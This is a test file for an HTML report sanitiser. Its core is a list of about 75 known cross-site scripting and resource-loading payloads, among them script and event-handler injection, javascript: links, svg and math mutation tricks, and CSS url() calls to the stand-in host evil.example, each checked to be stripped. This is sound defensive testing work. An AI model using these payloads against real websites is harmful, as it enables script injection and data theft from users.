import { Parser } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { exportStyle } from '#core/formats/html/html-document.ts';
import { cleanReportHtml } from './clean-html.ts';

interface Element {
  name: string;
  attributes: Record<string, string>;
  inside: string[];
}

/** What an independent parser finds in the sanitised page. */
function read(html: string | null): { elements: Element[]; text: string; css: string } {
  const elements: Element[] = [];
  const open: string[] = [];
  let text = '';
  let css = '';
  const parser = new Parser({
    onopentag(name, attributes) {
      elements.push({ name, attributes: { ...attributes }, inside: [...open] });
      open.push(name);
    },
    ontext(part) {
      if (open.at(-1) === 'style') css += part;
      else if (open.includes('body')) text += part;
    },
    onclosetag() {
      open.pop();
    },
  });
  parser.end(html ?? '');
  return { elements, text: text.replaceAll(/\s+/g, ' ').trim(), css: css.trim() };
}

const inBody = (html: string) =>
  read(cleanReportHtml(html, 'Report')).elements.filter(({ inside }) => inside.includes('body'));

const frame = ['html', 'head', 'meta', 'meta', 'meta', 'title', 'style', 'body'];
const harmlessTags = new Set(
  'a b p div span em strong h1 table tbody tr td th img svg g path rect circle pattern text desc ul li details summary'.split(
    ' ',
  ),
);

/** Known attacks; each of them ran or loaded something in some browser at some time. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1) on\u0000load=x>t</p>',
  '<p/onclick=alert(1)>t',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img srcset="https://evil.example/a 1x" src="data:image/png;base64,AAAA">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="DATA:image/png;base64,AA\'onerror=alert(1)">',
  '<img lowsrc="https://evil.example" dynsrc="https://evil.example" src="data:image/gif;base64,R0lG">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
  '<a href="javascript:alert(1)">t</a>',
  '<a href="JaVa&#x0A;ScRiPt&colon;alert(1)">t</a>',
  '<a href=" &#14; javascript:alert(1)">t</a>',
  '<a href="data:text/html,x">t</a>',
  '<a href="vbscript:x">t</a>',
  '<a href="//evil.example">t</a>',
  '<a href="/api/logout">t</a>',
  '<a href="https:evil\\@x" ping="https://evil.example" target="_top" rel="opener" download>t</a>',
  '<form action="https://evil.example"><input name=q autofocus onfocus=alert(1)><button formaction="javascript:x">b</button></form>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code=x></applet>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<body background="https://evil.example/x.png" onload=alert(1)>t',
  '<table background="https://evil.example/x.png"><td background="x">t</td></table>',
  '<video src="https://evil.example" poster="x" onerror=x></video><audio src=x><source src=y></audio>',
  '<style>@import "https://evil.example/x.css"; p { color: red }</style>',
  '<style>p { background: url(https://evil.example/x) } a { color: blue }</style>',
  '<style>p { background: u\\72l(https://evil.example/x) }</style>',
  '<style>p { background: image-set("https://evil.example/x" 1x); background: ur/**/l(x) }</style>',
  '<style>@font-face { font-family: x; src: url(https://evil.example/f) }</style>',
  '<style>p { width: expression(alert(1)); behavior: url(x); -moz-binding: url(x) }</style>',
  '<style>p { color: red } </style/><script>alert(1)</script>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<style>p::after { content: "</style><script>alert(1)</script>" }</style>',
  '<p style="background:url(https://evil.example/x);color:red">t</p>',
  '<p style="background:&#117;rl(https://evil.example/x)">t</p>',
  '<p style="width:expression(alert(1))">t</p>',
  '<p style="color:red;background:\\75 rl(x)">t</p>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=1 onclick=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>',
  '<svg><a href="javascript:alert(1)"><text>t</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"></use><use xlink:href="data:image/svg+xml,x"></use></svg>',
  '<svg><image href="https://evil.example/x.png"></image></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)" /><set attributeName=href to="javascript:x"/><text>t</text></a></svg>',
  '<svg><rect fill="url(https://evil.example/x#a)" filter="url(x)" mask="url( //evil.example )" /></svg>',
  '<svg><pattern id=p onload=alert(1) href="https://evil.example/x.svg#p" xlink:href="//evil.example/x#p"><image href="https://evil.example/x.png"/><rect fill="url(https://evil.example/x#a)" onclick=alert(1)></rect><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></pattern><rect fill="url(#p)"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></a></style></svg>',
  '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
  '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp></xmp/><img src=x onerror=alert(1)></xmp>',
  '<title></title/><img src=x onerror=alert(1)>',
  '<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>',
  '<template><script>alert(1)</script></template>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!--!><img src=x onerror=alert(1)>-->',
  '<?xml-stylesheet href="javascript:x"?><!DOCTYPE x [<!ENTITY a "b">]>',
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">t</p>',
  "<p title='\"><script>alert(1)</script>'>t</p>",
  '<a href="https://ok.example/?a=&quot;&gt;&lt;script&gt;">t</a>',
  '<div id="x" name="body" is="evil-element" slot=x contenteditable>t</div>',
  '<x-evil><b>t</b></x-evil><marquee onstart=alert(1)>t</marquee><keygen><isindex>',
];

const localLink = /^#/;
const webLink = /^(?:https?:\/\/|mailto:)/;

describe.each(hostile)('%s', (page) => {
  test('leaves nothing that runs, loads or leads elsewhere, also when parsed again', () => {
    const clean = cleanReportHtml(`before ${page} <b>after</b>`, 'Report');
    const { elements, css } = read(clean);
    expect(elements.slice(0, frame.length).map(({ name }) => name)).toEqual(frame);
    for (const { name, attributes } of elements.slice(frame.length)) {
      expect(harmlessTags, name).toContain(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        expect(attribute).not.toMatch(/^on|^xlink|srcset|background|ping|poster|action|^name$|^is$|src(?!$)/i);
        if (attribute === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+$/);
        else if (attribute === 'href') expect(localLink.test(value) || webLink.test(value), value).toBe(true);
        else expect(value).not.toMatch(/url\s*\((?!#)|expression|\\/i);
      }
    }
    expect(css).not.toMatch(/@import|@font-face|url\(|expression|image-set|behavior|binding|[<\\]/i);
    // Content after the attack remains, unless a browser would not show it either.
    expect(cleanReportHtml(clean ?? '', 'Report')).toBe(clean);
  });
});

test('the elements of a report remain unchanged', () => {
  const report = `<!doctype html><html lang="en"><head><title>Own</title><style media="print">h1 { break-after: avoid }</style>
    <style>:root { --ink: #222 } @page { size: A4; margin: 0.75in } td, th { border: 1px solid rgb(0 0 0 / 20%) }
    @media (min-width: 40rem) { main { max-width: calc(100% - 2rem) } } p::before { content: "“; }" }</style></head>
    <body class="report"><main id="top"><h1>Aspirin &amp; “stroke” &lt;5&gt;</h1>
    <p style="color: red; margin: 0 auto">See <a href="https://doi.org/10.1/x?a=1&amp;b=2">the study</a>, <a href="#top">up</a>,
    <a href="mailto:a@example.org">mail</a>.</p>
    <table><caption>Rows</caption><tbody><tr><th scope="row" colspan="2">n</th><td>120</td></tr></tbody></table>
    <img alt="Dot" src="data:image/png;base64,iVBORw0KGgo=">
    <svg viewBox="0 0 10 10" role="img" aria-label="Plot"><title>Plot</title><lineargradient id="g"><stop offset="0" stop-color="#fff"></stop></lineargradient>
    <rect x="1" y="1" width="5" height="5" fill="url(#g)"></rect><text x="1" y="2" text-anchor="middle">HR 0.8</text></svg></main></body></html>`;
  const { elements, text, css } = read(cleanReportHtml(report, 'My <report>'));
  expect(text).toBe('Aspirin & “stroke” <5> See the study, up, mail. Rowsn120 Plot HR 0.8');
  const links = elements.filter(({ name }) => name === 'a').map(({ attributes }) => attributes);
  expect(links).toEqual([
    { href: 'https://doi.org/10.1/x?a=1&b=2', rel: 'noopener noreferrer', target: '_blank' },
    { href: '#top' },
    { href: 'mailto:a@example.org', rel: 'noopener noreferrer', target: '_blank' },
  ]);
  expect(elements.find(({ name }) => name === 'img')?.attributes).toEqual({
    alt: 'Dot',
    src: 'data:image/png;base64,iVBORw0KGgo=',
  });
  expect(elements.find(({ name }) => name === 'rect')?.attributes).toMatchObject({ fill: 'url(#g)', width: '5' });
  expect(elements.find(({ name }) => name === 'svg')?.attributes).toMatchObject({ viewbox: '0 0 10 10', role: 'img' });
  expect(elements.find(({ name }) => name === 'p')?.attributes).toEqual({ style: 'color: red; margin: 0 auto' });
  expect(elements.find(({ name }) => name === 'main')?.attributes).toEqual({ id: 'top' });
  for (const kept of [
    '--ink: #222',
    '@page { size: A4; margin: 0.75in }',
    'rgb(0 0 0 / 20%)',
    '@media (min-width: 40rem) {',
    'calc(100% - 2rem)',
    'content: "“; }"',
    '@media print {',
  ]) {
    expect(css).toContain(kept);
  }
});

test('hatching remains, and no pattern is made of other patterns', () => {
  const hatched = `<svg viewBox="0 0 9 9"><defs><pattern id="h" width="4" height="4" patternUnits="userSpaceOnUse"
    patternTransform="rotate(45)"><rect width="4" height="4" fill="url(#i)" stroke="#000"></rect></pattern>
    <pattern id="i" fill="url( #h )"><rect fill="url(#h)"></rect></pattern></defs><rect fill="url(#h)"></rect></svg>`;
  const shapes = inBody(hatched);
  expect(shapes.filter(({ name }) => name === 'pattern').map(({ attributes }) => attributes)).toEqual([
    { id: 'h', width: '4', height: '4', patternunits: 'userSpaceOnUse', patterntransform: 'rotate(45)' },
    { id: 'i' },
  ]);
  const fills = shapes.filter(({ name }) => name === 'rect').map(({ attributes }) => attributes['fill']);
  expect(fills).toEqual([undefined, undefined, 'url(#h)']);
});

test('an exported page keeps every declaration of its style', () => {
  const { css } = read(cleanReportHtml(`<style>${exportStyle}</style><p>x</p>`, 'Export'));
  const bare = (sheet: string) => sheet.replaceAll(/[\s;]/g, '');
  expect(bare(css)).toBe(bare(exportStyle));
});

test('the page is built by us: title escaped, nothing may be loaded', () => {
  const clean = cleanReportHtml('<title>Another</title>text', '</title><script>alert(1)</script>');
  expect(clean).toContain('<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>');
  expect(clean).not.toContain('Another');
  const policy = read(clean).elements.find(({ attributes }) => attributes['http-equiv'] === 'Content-Security-Policy');
  expect(policy?.attributes['content']).toMatch(/^default-src 'none'; img-src data:; style-src 'unsafe-inline'/);
});

test('content without anything to show is no report', () => {
  expect(cleanReportHtml('', 'x')).toBeNull();
  expect(cleanReportHtml(' <script>alert(1)</script><style>p { color: red }</style> ', 'x')).toBeNull();
});

test('text that is removed with its element is not shown', () => {
  expect(
    inBody('<select><option>No</option></select><textarea>no</textarea><p>yes</p>').map(({ name }) => name),
  ).toEqual(['p']);
});

test('deep nesting that would cost minutes is refused at once, long flat pages are not', () => {
  for (const page of ['<div>'.repeat(500_000), '<noscript></div>'.repeat(200_000), '<svg><title>x'.repeat(200_000)]) {
    expect(() => cleanReportHtml(page, 'x')).toThrow(expect.objectContaining({ code: 'invalid_input' }));
  }
  for (const page of [
    `<style>${'{'.repeat(1_000_000)}</style>x`,
    `<style>${'@media a{'.repeat(100_000)}</style>x`,
    `<style>${'"'.repeat(1_000_000)}${'/*'.repeat(500_000)}</style>x`,
    `<p style="${'color:('.repeat(150_000)}">x`,
    `<p ${Array.from({ length: 50_000 }, (_, index) => `a${index}=b`).join(' ')}>x`,
    '<title>a</title>'.repeat(50_000),
    '<'.repeat(1_000_000),
  ]) {
    expect(() => cleanReportHtml(page, 'x')).not.toThrow();
  }
});
